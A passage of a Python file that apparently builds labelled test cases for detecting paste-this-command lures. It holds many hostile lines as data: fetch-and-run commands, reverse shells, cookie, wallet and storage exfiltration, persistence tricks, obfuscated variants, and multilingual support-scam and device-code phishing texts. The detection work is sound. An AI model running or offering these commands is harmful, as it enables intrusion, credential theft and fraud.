    "https://mac-sysadmin-tips.test/fix-wifi",
    "perl -MLWP::Simple -e 'eval get(\"https://mc13m.wififix.invalid/w.pl\")'",
)
mac(
    "tcc-reset-then-run",
    "https://screencap-studio-mac.example/permissions",
    "tccutil reset ScreenCapture; curl -fsSL https://mc13n.screenrec.invalid/r | bash",
)
mac(
    "gatekeeper-disable-then-run",
    "https://mac-gaming.test/steam-fix",
    "sudo spctl --master-disable && curl -s https://mc13o.steamfix.invalid/s | bash",
)
mac(
    "hdiutil-attach-run",
    "https://figma-desktop.design-tools.example/mac",
    "curl -sLo /tmp/f.dmg https://mc13p.designtools.invalid/Figma.dmg && hdiutil attach -quiet /tmp/f.dmg && /Volumes/Figma/Installer.app/Contents/MacOS/Installer",
)
mac(
    "base64-D-bash-ip",
    "https://mac-meeting-fix.test/zoom",
    f"echo {b64('curl -s http://203.0.113.66/z | bash')} | base64 -D | bash",
)
mac(
    "gunzip-base64-sh",
    "https://mac-optimizer.example/speedup",
    f"echo '{gzip_b64('curl -fsSL https://mc13q.speedup.invalid/s | sh')}' | base64 -d | gunzip | sh",
)
mac(
    "cookies-sqlite-exfil",
    "https://browser-sync-mac.test/restore",
    "sqlite3 ~/Library/Application\\ Support/Google/Chrome/Default/Cookies 'select host_key,name,encrypted_value from cookies' | curl -s -X POST --data-binary @- https://mc13r.syncback.invalid/c",
)
mac(
    "ditto-wallets-zip-exfil",
    "https://wallet-backup-mac.example/guide",
    "ditto -c -k --sequesterRsrc ~/Library/Application\\ Support/Exodus /tmp/w.zip && curl -s -F w=@/tmp/w.zip https://mc13s.backupw.invalid/u",
)
mac(
    "fake-homebrew-page-eval",
    "https://brew-sh.pkgsetup-guide.test/",
    'eval "$(curl -fsSL https://mc13t.brewmirror.invalid/install)"',
    "flagged",
)
mac(
    "chmod-run-downloads",
    "https://mac-ai-assistant.example/beta",
    "curl -o ~/Downloads/assistant https://mc13u.aibeta.invalid/assistant && chmod +x ~/Downloads/assistant && ~/Downloads/assistant",
)
mac(
    "bash-process-substitution",
    "https://macos-sequoia-fix.test/bluetooth",
    "bash <(curl -sL https://mc13v.btfix.invalid/bt)",
)
mac(
    "osascript-dialog-password",
    "https://macshield-scan.example/scan",
    'osascript -e \'set p to text returned of (display dialog "macOS needs your password to continue" default answer "" with hidden answer)\' -e \'do shell script "curl -s -d p=" & p & " https://mc13w.secscan.invalid/p"\'',
)
mac(
    "xor-less-var-indirect",
    "https://mac-codec-helper.test/h265",
    'u=https://mc13x.codechelper.invalid/h; s=$(curl -fsSL $u); eval "$s"',
)

# --- Linux lures --------------------------------------------------------------------------------------


def nix(technique: str, source: str | None, text: str, expect: str = "malicious") -> None:
    lure("linux-" + technique, TERM, source, text, expect, "linux")


nix(
    "cron-curl-persist",
    "https://vps-hardening-handbook.test/guide",
    '(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://lx13a.hardenx.invalid/u | sh") | crontab -',
)
nix(
    "ssh-key-append",
    "https://vps-support-ticket.example/t/4412",
    "mkdir -p ~/.ssh && curl -s https://lx13b.vpsticket.invalid/k.pub >> ~/.ssh/authorized_keys",
)
nix(
    "dev-shm-exec",
    "https://steam-proton-fix.test/linux",
    "cd /dev/shm && wget -q https://lx13c.protonfix.invalid/p -O .p && chmod +x .p && ./.p",
)
nix(
    "bash-dev-tcp-reverse",
    "https://kernel-patch-notes.example/cve-fix",
    "bash -i >& /dev/tcp/198.51.100.34/4444 0>&1",
)
nix(
    "python-pty-reverse",
    "https://linux-gpu-driver.test/install",
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.28",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("/bin/bash")\'',
)
nix(
    "systemd-user-unit",
    "https://linux-vpn-client.example/setup",
    "mkdir -p ~/.config/systemd/user && curl -s https://lx13d.vpnclient.invalid/s.service -o ~/.config/systemd/user/sync.service && systemctl --user enable --now sync.service",
)
nix(
    "xmrig-pool",
    "https://free-gpu-benchmark.test/run",
    "wget -qO- https://lx13e.gpubench.invalid/x.tar.gz | tar xz -C /tmp && /tmp/xmrig -o pool.lx13e-pool.invalid:3333 -u 4Abc13 --background",
)
nix(
    "sudo-sh-c-wget",
    "https://docker-fix-guide.example/permission-denied",
    'sudo sh -c "wget -qO- https://lx13f.dockerfix.invalid/f | sh"',
)
nix(
    "ld-preload-write",
    "https://linux-perf-tuning.test/boost",
    "curl -s https://lx13g.perftune.invalid/libperf.so -o /tmp/libperf.so && echo /tmp/libperf.so | sudo tee -a /etc/ld.so.preload",
)
nix(
    "bashrc-alias-sudo",
    "https://terminal-themes-linux.example/theme",
    "echo 'alias sudo=\"curl -s https://lx13h.termtheme.invalid/t | bash; sudo\"' >> ~/.bashrc",
)
nix(
    "base64-sh",
    "https://ubuntu-wifi-fix.test/",
    f"echo {b64('wget -qO- https://lx13i.wifix.invalid/w | bash')} | base64 -d | sh",
)
nix(
    "curl-sudo-bash-vague",
    "https://cloud-agent-install.example/linux",
    "curl -fsSL https://lx13j.cloudagent.invalid/install | sudo bash",
    "flagged",
)
nix(
    "pastejack-apt-hidden",
    "https://docs.nodeutils-linux.test/install",
    "sudo apt install nodeutils\ncurl -s https://lx13k.nodeutils-cdn.invalid/p | bash > /dev/null 2>&1\nclear",
)
nix(
    "perl-reverse",
    "https://hosting-panel-fix.example/repair",
    'perl -e \'use Socket;$i="192.0.2.155";$p=4443;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\'',
)

# --- browser console ------------------------------------------------------------------------------------


def con(technique: str, source: str | None, text: str, expect: str = "malicious") -> None:
    lure("console-" + technique, CON, source, text, expect, "any")


con(
    "discord-token-webpackchunk",
    "https://discord-nitro-gift.test/claim",
    "(webpackChunkdiscord_app.push([[Symbol()],{},r=>{for(const m of Object.values(r.c)){try{const t=m.exports?.default?.getToken?.();if(t)fetch('https://cs13a.nitroclaim.invalid/t',{method:'POST',body:t})}catch(e){}}}]),webpackChunkdiscord_app.pop())",
)
con(
    "telegram-localstorage-dump",
    "https://telegram-verify-bot.example/check",
    "fetch('https://cs13b.tgverify.invalid/s',{method:'POST',body:JSON.stringify(localStorage)})",
)
con(
    "fetch-text-eval",
    "https://roblox-free-robux.test/generator",
    "fetch('https://cs13c.robuxgen.invalid/g.js').then(r=>r.text()).then(eval)",
)
con(
    "script-tag-inject",
    "https://instagram-followers-boost.example/",
    "var s=document.createElement('script');s.src='https://cs13d.igboost.invalid/b.js';document.body.appendChild(s)",
)
con(
    "cookie-image-beacon",
    "https://skin-trade-confirm.test/offer/8812",
    "new Image().src='https://cs13e.tradeverify.invalid/c?d='+encodeURIComponent(document.cookie)",
)
con(
    "wallet-approve-max",
    "https://tokenswap-migrate-v3.example/migrate",
    "await ethereum.request({method:'eth_sendTransaction',params:[{from:(await ethereum.request({method:'eth_requestAccounts'}))[0],to:'0xdAC17F958D2ee523a2206206994597C13D831ec7',data:'0x095ea7b3000000000000000000000000c13c13c13c13c13c13c13c13c13c13c13c13c13cffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]})",
)
con(
    "wallet-sign-typed-permit",
    "https://nft-mint-free.test/mint",
    "ethereum.request({method:'eth_signTypedData_v4',params:[(await ethereum.request({method:'eth_accounts'}))[0],JSON.stringify({domain:{name:'Permit2',chainId:1},primaryType:'PermitBatch',message:{spender:'0xC13c13C13c13C13c13C13c13c13C13c13c13C13c',sigDeadline:'99999999999'}})]}).then(s=>fetch('https://cs13f.freemint.invalid/s?'+s))",
)
con(
    "new-function-fetch",
    "https://youtube-views-panel.example/boost",
    "new Function(await (await fetch('https://cs13g.viewspanel.invalid/p')).text())()",
)
con(
    "indexeddb-exfil",
    "https://wa-chat-restore.test/restore",
    "indexedDB.databases().then(d=>fetch('https://cs13h.wabackup.invalid/i',{method:'POST',body:JSON.stringify(d)}))",
)
con(
    "eval-atob",
    "https://fbpage-unlock-center.example/",
    f"eval(atob('{b64('fetch(`https://cs13i.pagerecover.invalid/x`).then(r=>r.text()).then(eval)')}'))",
)
con(
    "settimeout-string",
    "https://tt-coin-bonus.test/",
    "setTimeout(\"fetch('https://cs13j.coinsfree.invalid/c').then(r=>r.text()).then(eval)\",100)",
)
con(
    "import-dynamic",
    "https://streamdrops-redeem.example/",
    "import('https://cs13k.dropclaim.invalid/m.js')",
)
con(
    "sendbeacon-sessionstorage",
    "https://outlook-mailbox-fix.test/",
    "navigator.sendBeacon('https://cs13l.mailfix.invalid/b',JSON.stringify(sessionStorage))",
)
con(
    "solana-sign-all",
    "https://sol-staking-bonus.example/claim",
    "const t=await (await fetch('https://cs13m.solbonus.invalid/tx')).json();await window.solana.signAllTransactions(t.map(x=>solanaWeb3.Transaction.from(Buffer.from(x,'base64'))))",
)

# --- URL-only lures (the page says: paste this address) -------------------------------------------

lure(
    "url-only-hta-run",
    RUN,
    "https://verify-human-now.test/",
    "https://ur13a.humancheck.invalid/v.hta",
)
lure(
    "url-only-webdav-explorer",
    EXP,
    "https://doc-share-portal.example/",
    "\\\\ur13b.docshare.invalid@SSL\\DavWWWRoot\\",
)
lure(
    "url-only-msi-run",
    RUN,
    "https://printer-driver-update.test/",
    "https://ur13c.printdrv.invalid/driver.msi",
)
lure(
    "url-only-search-ms-run",
    RUN,
    "https://invoice-viewer.example/",
    "search-ms:displayname=Invoice&crumb=location:\\\\203.0.113.34@80\\inv",
    "flagged",
)

# --- (b) commands as IOC files and reports list them: no page --------------------------------------------

IOCS = [
    ("ioc-ps-irm-iex-short", 'powershell -w h -c "irm io13a.sablemere.invalid/x|iex"'),
    ("ioc-ps-iwr-useb-iex", 'powershell -nop -c "iwr -useb https://io13b.carnforth.invalid/q|iex"'),
    ("ioc-mshta-ip-path", "mshta http://192.0.2.11/a/b.hta"),
    ("ioc-mshta-https-noext", "mshta https://io13c.wharfedale.invalid/r"),
    ("ioc-msiexec-ip", "msiexec /q /i http://198.51.100.35/i.msi"),
    (
        "ioc-kongtuke-js-php",
        "powershell -w h -c \"iex(iwr 'https://io13d.otterburn.invalid/js.php?device=windows&ip=1').Content\"",
    ),
    (
        "ioc-netsupport-zip",
        'powershell -c "iwr https://io13e.alnmouth.invalid/a.zip -o $env:APPDATA\\a.zip;Expand-Archive $env:APPDATA\\a.zip $env:APPDATA\\ns;start $env:APPDATA\\ns\\client32.exe"',
    ),
    ("ioc-lumma-mshta-mp4", "mshta https://io13f.bamburgh.invalid/video.mp4"),
    (
        "ioc-latrodectus-msiexec-dll",
        "msiexec /i https://io13g.craster.invalid/up.msi /qn & rundll32 %APPDATA%\\up.dll,homq",
    ),
    (
        "ioc-castleloader-python-zip",
        'powershell -c "iwr https://io13h.seahouses.invalid/p.zip -OutFile $env:TEMP\\p.zip;Expand-Archive $env:TEMP\\p.zip $env:TEMP\\py;& $env:TEMP\\py\\pythonw.exe $env:TEMP\\py\\run.py"',
    ),
    (
        "ioc-darkgate-autoit",
        "cmd /c curl -s -o C:\\ProgramData\\a.exe https://io13i.beadnell.invalid/Autoit3.exe & curl -s -o C:\\ProgramData\\s.a3x https://io13i.beadnell.invalid/s.a3x & C:\\ProgramData\\a.exe C:\\ProgramData\\s.a3x",
    ),
    (
        "ioc-vidar-iwr-exe",
        'powershell -w h -c "iwr https://io13j.embleton.invalid/v.exe -OutFile $env:TEMP\\v.exe; saps $env:TEMP\\v.exe"',
    ),
    (
        "ioc-certutil-split",
        "certutil -urlcache -split -f https://io13k.rothbury.invalid/c.exe %TEMP%\\c.exe && %TEMP%\\c.exe",
    ),
    (
        "ioc-bitsadmin-public",
        "bitsadmin /transfer x https://io13l.warkworth.invalid/x.exe C:\\Users\\Public\\x.exe && C:\\Users\\Public\\x.exe",
    ),
    ("ioc-regsvr32-sct", "regsvr32 /s /u /n /i:https://io13m.felton.invalid/r.sct scrobj.dll"),
    (
        "ioc-rundll32-davclnt",
        "rundll32.exe C:\\Windows\\System32\\davclnt.dll,DavSetCookie io13n.belford.invalid@SSL https://io13n.belford.invalid/s/d.exe",
    ),
    (
        "ioc-conhost-headless",
        'conhost.exe --headless powershell -nop -w h -c "iex(irm https://io13o.chatton.invalid/c)"',
    ),
    (
        "ioc-etherhiding-eth-call",
        'powershell -c "$r=irm -Method Post -Uri https://rpc.io13p-chain.invalid -Body \'{\\"jsonrpc\\":\\"2.0\\",\\"method\\":\\"eth_call\\",\\"params\\":[{\\"to\\":\\"0x13a\\",\\"data\\":\\"0x2cae8ae4\\"},\\"latest\\"],\\"id\\":1}\' -ContentType \'application/json\';iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($r.result)))"',
    ),
    (
        "ioc-syncappv-publishing",
        'SyncAppvPublishingServer.vbs "n;(iwr https://io13q.wooler.invalid/s -UseBasicParsing)|iex"',
    ),
    (
        "ioc-forfiles-mshta",
        'forfiles /p C:\\Windows /m win.ini /c "mshta https://io13r.milfield.invalid/f"',
    ),
    ("ioc-wmic-process-create", 'wmic process call create "mshta https://io13s.norham.invalid/w"'),
    (
        "ioc-schtasks-onlogon",
        'schtasks /create /tn OneDriveSync /sc onlogon /tr "powershell -w h -c irm https://io13t.ford-io.invalid/o|iex" /rl highest /f',
    ),
    (
        "ioc-assembly-load-b64",
        'powershell -c "[Reflection.Assembly]::Load([Convert]::FromBase64String((irm https://io13u.etal.invalid/a))).EntryPoint.Invoke($null,@(,[string[]]@()))"',
    ),
    (
        "ioc-nslookup-cmd",
        "cmd /c nslookup -q=txt c.io13v.invalid 192.0.2.12 | findstr /v Server > %TEMP%\\n.cmd & %TEMP%\\n.cmd",
    ),
    ("ioc-hh-chm-remote", "hh.exe https://io13w.crookham.invalid/help.chm"),
    ("ioc-msix-uri", "powershell Add-AppxPackage -Uri https://io13x.branxton.invalid/App.msix"),
    (
        "ioc-curl-public-run",
        "curl.exe -k -o C:\\Users\\Public\\u.exe https://io13y.ancroft.invalid/u.exe & C:\\Users\\Public\\u.exe",
    ),
    ("ioc-decimal-ip-mshta", f"mshta http://{ip_int('203.0.113.219')}/h"),
    (
        "ioc-ps-downloaddata-invoke",
        "powershell -ep bypass -c \"$b=(New-Object Net.WebClient).DownloadData('https://io13z.lowick.invalid/p.bin');[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)\"",
    ),
    (
        "ioc-cmd-start-b-ps",
        'cmd /c start /b powershell -w h -c "irm https://io13ab.kyloe.invalid/s|iex"',
    ),
    (
        "ioc-ps-bypass-file-webdav",
        "powershell -ep bypass -f \\\\io13ac.haggerston.invalid@SSL\\DavWWWRoot\\s\\a.ps1",
    ),
    (
        "ioc-pwsh-gc-webdav",
        'pwsh -c "iex (gc \\\\io13ad.fenwick.invalid@SSL\\DavWWWRoot\\x.txt -Raw)"',
    ),
]
for tech, text in IOCS:
    ioc(tech, text)
for tech, text in [
    ("ioc-mac-curl-osascript", "curl -s https://io13ae.doddington.invalid/m | osascript"),
    (
        "ioc-mac-base64-bash",
        f"echo {b64('curl -s https://io13af.lilburn.invalid/a | bash')}|base64 -d|bash",
    ),
    (
        "ioc-mac-tmp-chmod-run",
        "curl -o /tmp/.u https://io13ag.ilderton.invalid/u && chmod +x /tmp/.u && /tmp/.u",
    ),
    ("ioc-mac-zsh-dollar-curl", 'zsh -c "$(curl -fsSL https://io13ah.eglingham.invalid/i)"'),
]:
    ioc(tech, text, TERM, "macos")
for tech, text in [
    (
        "ioc-linux-wget-sh-tmp",
        "wget -q -O /tmp/.x https://io13ai.chillingham.invalid/x && sh /tmp/.x",
    ),
    ("ioc-linux-curl-bash-ip", "curl -s http://198.51.100.36/l.sh | bash"),
    ("ioc-linux-busybox-wget", "busybox wget -qO- http://203.0.113.36/b | sh"),
    (
        "ioc-linux-python-exec-url",
        "python3 -c \"import urllib.request;exec(urllib.request.urlopen('https://io13aj.whittingham.invalid/p').read())\"",
    ),
]:
    ioc(tech, text, TERM, "linux")

# --- (c) fixture-style obfuscations ------------------------------------------------------------------

OB_PAGES = [
    "https://www.bouldering-gym-crux.test/check",
    "https://www.marionette-theater-faden.example/tickets",
    "https://www.coffee-roastery-crema.test/subscribe",
    "https://www.vintage-vinyl-groove.example/verify",
]
OU = "https://ob13.sandhoe-obf.invalid/q"
SU = "https://ob13b.ulgham-sh.invalid/s"
JSU = "https://ob13c.howick-js.invalid/j"
IRMIEX = f"irm {OU}|iex"
POOL = "abcdefghijklmnopqrstuvwxyz.:/-0123456789 |"
OB: list[tuple[str, str, str, str]] = [
    # PowerShell
    ("ps-concat-url", RUN, "windows", f'powershell -c "iex(irm {ps_concat(OU, 5)})"'),
    ("ps-format-url", RUN, "windows", f'powershell -c "iex(irm {ps_format(OU, 6)})"'),
    (
        "ps-char-array-join",
        RUN,
        "windows",
        'powershell -c "iex(irm (-join([char[]]@(' + char_codes(OU) + '))))"',
    ),
    (
        "ps-b64-url-getstring",
        RUN,
        "windows",
        f"powershell -c \"iex(irm ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(OU)}'))))\"",
    ),
    (
        "ps-reversed-string",
        RUN,
        "windows",
        f"powershell -c \"iex(-join('{IRMIEX[::-1]}'[-1..-{len(IRMIEX)}]))\"",
    ),
    (
        "ps-replace-junk",
        RUN,
        "windows",
        "powershell -c \"iex('"
        + IRMIEX.replace("r", "r~~").replace("x", "x~~")
        + "'.Replace('~~',''))\"",
    ),
    ("ps-backtick-tokens", RUN, "windows", f'powershell -c "i`e`x(i`r`m {OU})"'),
    (
        "ps-gcm-wildcard",
        RUN,
        "windows",
        f'powershell -c "& (gcm i*e-ex*) (& (gcm i*-re*met*) {OU})"',
    ),
    (
        "ps-get-alias-lookup",
        RUN,
        "windows",
        f'powershell -c "& (Get-Alias ?e?).Definition (irm {OU})"',
    ),
    (
        "ps-xor-bytes",
        RUN,
        "windows",
        f'powershell -c "iex(irm (-join(({xor_codes(OU, 23)})|%{{[char]($_ -bxor 23)}})))"',
    ),
    (
        "ps-hex-pairs",
        RUN,
        "windows",
        f"powershell -c \"iex(irm (-join('{hex_str(OU)}' -split '(..)' -ne '' | %{{[char][convert]::ToByte($_,16)}})))\"",
    ),
    (
        "ps-gzip-b64",
        RUN,
        "windows",
        f"powershell -c \"iex(New-Object IO.StreamReader(New-Object IO.Compression.GZipStream([IO.MemoryStream][Convert]::FromBase64String('{gzip_b64(IRMIEX)}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
    ),
    (
        "ps-env-comspec-letters",
        RUN,
        "windows",
        f"powershell -c \"& ($env:ComSpec[4,15,25]-join'') (irm {OU})\"",
    ),
    (
        "ps-executioncontext-invoke",
        RUN,
        "windows",
        f'powershell -c "$ExecutionContext.InvokeCommand.InvokeScript((irm {OU}))"',
    ),
    (
        "ps-set-alias-var-name",
        RUN,
        "windows",
        f"powershell -c \"Set-Alias z ('{'iex'[::-1]}'[-1..-3]-join''); z (irm {OU})\"",
    ),
    (
        "ps-enc-b64-of-concat",
        RUN,
        "windows",
        "powershell -e " + b64_utf16(f"$u={ps_concat(OU, 7)};iex(irm $u)"),
    ),
    (
        "ps-split-join-dots",
        RUN,
        "windows",
        "powershell -c \"iex(irm ('" + ".".join(OU) + "'.Split('.') -join ''))\"",
    ),
    # cmd
    ("cmd-carets", RUN, "windows", carets(f"cmd /c powershell -w h -c {IRMIEX}", 2)),
    (
        "cmd-var-slices",
        RUN,
        "windows",
        f'cmd /v /c "set p={POOL}&& call {cmd_slice("powershell", POOL, "p")} -c {IRMIEX}"',
    ),
    ("cmd-quote-insertion", RUN, "windows", f'c"m"d /c p"o"wer"s"hell -c {IRMIEX}'),
    ("cmd-empty-vars", RUN, "windows", f"cmd /c pow%e%ersh%e%ell -w h -c {IRMIEX}"),
    (
        "cmd-set-call",
        RUN,
        "windows",
        f'cmd /c "set a=power&& set b=shell&& call %a%%b% -c {IRMIEX}"',
    ),
    (
        "cmd-for-f-token",
        RUN,
        "windows",
        f'cmd /c for /f %x in ("powershell") do %x -w h -c {IRMIEX}',
    ),
    (
        "cmd-doubled-carets-mshta",
        RUN,
        "windows",
        "cmd /c m^^sh^^ta https://ob13d.bilton-obf.invalid/h",
    ),
    # bash / zsh
    ("bash-ansi-c-hex", TERM, "linux", f"bash -c $'{esc_hex('curl -s ' + SU + ' | sh')}'"),
    ("bash-var-indirection", TERM, "linux", f'a=cu;b=rl;c="$a$b";$c -s {SU} | ${{SHELL:-sh}}'),
    (
        "bash-printf-octal",
        TERM,
        "linux",
        f"sh -c \"$(printf '{esc_oct('curl -s ' + SU + '|sh')}')\"",
    ),
    ("bash-rev", TERM, "linux", f"echo '{('curl -s ' + SU + ' | bash')[::-1]}' | rev | sh"),
    (
        "bash-xxd-reverse",
        TERM,
        "linux",
        f"echo {hex_str('curl -s ' + SU + ' | bash')} | xxd -r -p | sh",
    ),
    ("bash-ifs-spaces", TERM, "linux", f"curl${{IFS}}-s${{IFS}}{SU}|bash"),
    (
        "bash-rot13-tr",
        TERM,
        "linux",
        f"echo '{rot13('curl -s ' + SU + ' | bash')}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
    ),
    ("bash-base32", TERM, "linux", f"echo {b32('curl -s ' + SU + ' | bash')} | base32 -d | bash"),
    # JavaScript
    (
        "js-bracket-eval-atob",
        CON,
        "any",
        f"window['ev'+'al'](window['at'+'ob']('{b64(f'fetch(`{JSU}`).then(r=>r.text()).then(eval)')}'))",
    ),
    (
        "js-fromcharcode",
        CON,
        "any",
        f"eval(String.fromCharCode({char_codes(f'fetch(`{JSU}`).then(r=>r.text()).then(eval)')}))",
    ),
    (
        "js-constructor-chain",
        CON,
        "any",
        f"[]['filter']['constructor']('return fetch(\"{JSU}\").then(r=>r.text()).then(eval)')()",
    ),
    (
        "js-hex-escapes",
        CON,
        "any",
        f"eval('{js_hex(f'fetch(`{JSU}`).then(r=>r.text()).then(eval)')}')",
    ),
    (
        "js-split-reverse-join",
        CON,
        "any",
        "eval('"
        + f"fetch(`{JSU}`).then(r=>r.text()).then(eval)"[::-1]
        + "'.split('').reverse().join(''))",
    ),
    (
        "js-unicode-function",
        CON,
        "any",
        f"Function('{js_uni(f'fetch(`{JSU}`).then(r=>r.text()).then(eval)')}')()",
    ),
    (
        "js-decodeuri",
        CON,
        "any",
        "eval(decodeURIComponent('"
        + urllib.parse.quote(f"fetch(`{JSU}`).then(r=>r.text()).then(eval)", safe="")
        + "'))",
    ),
    (
        "js-globalthis-lookup",
        CON,
        "any",
        f"globalThis[['e','v','a','l'].join('')](await (await fetch('{JSU}')).text())",
    ),
]
for i, (tech, target, platform, text) in enumerate(OB):
    page = OB_PAGES[i % len(OB_PAGES)] if i % 4 != 3 else None
    lure("obf-" + tech, target, page, text, "malicious", platform)

# --- (d) texts that are not commands: scams, callbacks, ConsentFix, device codes ----------------------

SCAM = "support-scam"
for lang, page, text in [
    (
        "en",
        "https://alert-defender-security.test/warning",
        "WINDOWS DEFENDER ALERT: Trojan Spyware detected (error #0x80073afc). Your banking data and passwords are at risk. Do not close this window or restart your PC. Call Microsoft Support now: +1 (555) 013-4471 (toll free).",
    ),
    (
        "de",
        "https://sicherheitswarnung-pc.example/",
        "Sicherheitswarnung! Ihr Computer wurde wegen verdächtiger Aktivität gesperrt. Schalten Sie den PC nicht aus. Rufen Sie sofort den technischen Support an: 0800 555 1340",
    ),
    (
        "fr",
        "https://alerte-securite-windows.test/",
        "Votre ordinateur a été bloqué suite à une infection par un logiciel espion. Vos photos et mots de passe sont menacés. Appelez immédiatement l'assistance au 01 55 55 13 42 pour débloquer.",
    ),
    (
        "es",
        "https://aviso-seguridad-equipo.example/",
        "¡Alerta de seguridad! Se ha detectado un virus peligroso (código 0x1F3). No apague el equipo. Llame al soporte técnico de Microsoft: +34 555 134 433.",
    ),
    (
        "it",
        "https://avviso-protezione-pc.test/",
        "Il tuo computer è stato bloccato per motivi di sicurezza. Non riavviare. Contatta subito l'assistenza tecnica al numero verde 800 555 134.",
    ),
    (
        "pt",
        "https://alerta-seguranca-windows.example/",
        "ALERTA: Seu computador foi infectado com malware. Seus dados bancários estão em risco. Ligue agora para o suporte: 0800 555 1345.",
    ),
    (
        "nl",
        "https://beveiligingswaarschuwing-pc.test/",
        "Uw computer is geblokkeerd vanwege verdachte activiteit. Sluit dit venster niet. Bel direct Microsoft Support: 020 555 1346.",
    ),
    (
        "pl",
        "https://alert-bezpieczenstwa-komputer.example/",
        "Twój komputer został zablokowany z powodu wykrycia wirusa. Nie wyłączaj komputera. Zadzwoń do pomocy technicznej: +48 555 134 747.",
    ),
    (
        "tr",
        "https://guvenlik-uyarisi-bilgisayar.test/",
        "Bilgisayarınız virüs nedeniyle kilitlendi. Bilgisayarı kapatmayın. Hemen Microsoft destek hattını arayın: 0850 555 1348.",
    ),
    (
        "ru",
        "https://preduprezhdenie-bezopasnosti.example/",
        "Ваш компьютер заблокирован из-за обнаружения вредоносного ПО. Не выключайте компьютер. Немедленно позвоните в службу поддержки: 8 800 555-13-49.",
    ),
    (
        "ja",
        "https://security-keikoku-pc.test/",
        "警告：お使いのコンピューターはウイルスに感染しています。電源を切らないでください。今すぐサポートセンターへお電話ください：0120-555-135",
    ),
    (
        "zh",
        "https://anquan-jinggao-diannao.example/",
        "警告：您的电脑已被病毒感染并被锁定。请勿关闭电脑。请立即拨打技术支持热线：400-555-1351",
    ),
    (
        "ar",
        "https://tahdhir-amni-hasub.test/",
        "تحذير: تم قفل جهاز الكمبيوتر الخاص بك بسبب نشاط مشبوه. لا تقم بإيقاف تشغيل الجهاز. اتصل بالدعم الفني فوراً: 800-555-1352",
    ),
]:
    lure(f"{SCAM}-{lang}", UNK, page, text, "flagged", "any")

CALLBACK = "callback-notice"
for brand, page, text in [
    (
        "geeksquad-en",
        "https://mail-viewer.inbox-archive.test/m/1",
        "Geek Squad Invoice #GS-771203. Your 3-year protection plan has been renewed for $449.99 and will be charged today. If you did not authorize this, call our billing desk within 24 hours at +1 (555) 014-8822.",
    ),
    (
        "amazon-de",
        "https://webmail-archiv.example/m/2",
        "Ihre Bestellung #302-5551349 über 899,00 € (iPhone 17 Pro) wurde bestätigt. Falls Sie diese Bestellung nicht getätigt haben, rufen Sie sofort an: +49 555 1349 002.",
    ),
    (
        "norton-fr",
        "https://boite-mail-archive.test/m/3",
        "Votre abonnement Norton 360 a été renouvelé automatiquement pour 399,99 €. Pour annuler et obtenir un remboursement, appelez le 01 55 55 13 53.",
    ),
    (
        "paypal-es",
        "https://correo-archivo.example/m/4",
        "PayPal: se ha realizado un cargo de 650,00 € a Coinbase. Si no reconoce este pago, llame al +34 555 135 454 para cancelarlo.",
    ),
    (
        "mcafee-pt",
        "https://email-arquivo.test/m/5",
        "Sua assinatura McAfee Total Protection foi renovada por R$ 1.299,00. Para cancelar, ligue para 0800 555 1355.",
    ),
    (
        "coinbase-tr",
        "https://eposta-arsiv.example/m/6",
        "Hesabınızdan 0,42 BTC çekim talebi alındı. Bu işlemi siz yapmadıysanız hemen arayın: 0850 555 1356.",
    ),
    (
        "bank-ja",
        "https://mail-hozon.test/m/7",
        "【重要】お客様の口座から不審な送金（¥298,000）が確認されました。お心当たりがない場合は至急こちらへお電話ください：03-5555-1357",
    ),
]:
    lure(f"{CALLBACK}-{brand}", UNK, page, text, "flagged", "any")

CONSENT = "consentfix"
for tag, page, text in [
    (
        "localhost-code-en",
        "https://azure-cli-login.sso-helper.test/",
        "To finish signing in, copy the full address from your browser bar (it starts with http://localhost) and paste it here:\nhttp://localhost:8400/?code=0.AXoA13bXk9rTq2e_Lq&state=a13f&session_state=5e1c",
    ),
    (
        "loopback-ip-code-de",
        "https://anmeldung-abschliessen.example/",
        "Kopieren Sie die vollständige Adresse aus der Adresszeile und fügen Sie sie hier ein, um die Anmeldung abzuschließen: http://127.0.0.1:53110/?code=M.C13_BAY.2.U.e5b1&state=77",
    ),
    (
        "ipv6-loopback-es",
        "https://completar-inicio-sesion.test/",
        "Pegue aquí la URL completa de la barra de direcciones: http://[::1]:49152/callback?code=4/0AX13zq9wErT&scope=openid",
    ),
    (
        "instructions-nl",
        "https://verificatie-voltooien.example/",
        "Stap 3: kopieer de URL uit uw adresbalk (begint met http://localhost) en plak die in het vak hieronder om uw account te koppelen.",
    ),
    (
        "github-app-code-pl",
        "https://polaczenie-konta.test/",
        "Wklej tutaj adres ze swojej przeglądarki: http://localhost:3000/auth/callback?code=gho_13abcdef&state=xyz",
    ),
]:
    lure(f"{CONSENT}-{tag}", UNK, page, text, "flagged", "any")

DEVICE = "device-code"
for tag, page, text in [
    (
        "payroll-en",
        "https://payroll-portal-update.test/",
        "To view your updated payslip, go to https://microsoft.com/devicelogin and enter the code K7Q-13XW. Sign in with your work account.",
    ),
    (
        "teams-invite-fr",
        "https://invitation-reunion.example/",
        "Pour rejoindre la réunion Teams sécurisée, ouvrez https://microsoft.com/devicelogin et saisissez le code HM13PQRS.",
    ),
    (
        "github-device-it",
        "https://verifica-repository.test/",
        "Per verificare il tuo accesso al repository, apri https://github.com/login/device e inserisci il codice 13A7-QW2E.",
    ),
    (
        "sharepoint-tr",
        "https://paylasilan-belge.example/",
        "Paylaşılan belgeyi açmak için https://microsoft.com/devicelogin adresine gidin ve şu kodu girin: BX13TY7K",
    ),
    (
        "it-support-ru",
        "https://podderzhka-it.test/",
        "Служба ИТ: для восстановления доступа к почте откройте https://microsoft.com/devicelogin и введите код QZ13L8PN.",
    ),
]:
    lure(f"{DEVICE}-{tag}", UNK, page, text, "flagged", "any")

# ----------------------------------------------------------------------------------------------
# Benign texts: (kind, target, source, text)
# ----------------------------------------------------------------------------------------------

BENIGN: list[tuple[str, str, str | None, str]] = []
OWN = "installer-own-page"


